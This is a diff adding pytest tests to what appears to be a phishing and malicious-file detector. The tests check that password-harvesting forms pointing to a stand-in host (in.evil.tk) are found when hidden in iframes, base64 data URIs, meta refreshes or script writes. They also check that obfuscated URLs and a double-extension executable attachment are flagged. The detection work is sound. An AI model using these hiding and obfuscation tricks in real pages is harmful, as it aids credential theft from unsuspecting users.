@@ -48,6 +48,27 @@ def test_pages(spark):
     assert rows[0].t == "shown\ngone" and rows[1].f == [] == rows[2].f
 
 
+def test_pages_inside_pages():
+    inner = "<form action='https://in.evil.tk/'><input type=password><a href='https://in.evil.tk/x'>go</a></form>"
+    import base64
+
+    coded = base64.b64encode(inner.encode()).decode()
+    for page in (f'<iframe srcdoc="{inner}"></iframe>'.replace("'", "&#39;"), f"<object data='data:text/html;base64,{coded}'></object>", f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{coded}">', f"<script>document.write(atob('{coded}'))</script>"):
+        p = html.read(page)
+        assert {"form", "password"} <= p.facts and "https://in.evil.tk/x" in p.links[0], page
+    code = "var a = 'https://ev' + \"il.tk/a\"; b = '\\x68ttp://hex.tk/'; c = String.fromCharCode(104,116,116,112,58,47,47,99,46,116,107); d = 'kt.kcab//:sptth'"
+    joined = " ".join(html.script_readings(code))
+    assert all(u in joined for u in ("https://evil.tk/a", "http://hex.tk/", "http://c.tk", "https://back.tk"))
+    assert html.link_groups("<base href='https://b.example/d/'><a href='x.php'>x</a>")[0] == ["https://b.example/d/x.php"]
+
+
+def test_saved_mails_and_archives(spark):
+    raw = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=q\r\n\r\n--q\r\nContent-Type: text/html\r\n\r\n<form><input type=password></form><a href='https://p.example/'>x</a>\r\n--q\r\nContent-Type: application/octet-stream; name=a.pdf.exe\r\nContent-Disposition: attachment; filename=a.pdf.exe\r\n\r\nMZ\r\n--q--\r\n"
+    d = spark.createDataFrame([(1, "page.mht", raw, None)], "id int, filename string, content binary, mime string")
+    r = files.analyse(d).first()
+    assert r.kind == "mime" and r.notable_features == ["double_extension", "executable_in_archive", "contains_form", "contains_password_field", "inner_files_not_extracted"] and r.extracted_urls == ["https://p.example/"]
+
+
 def _zip(members, encrypt=False):
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
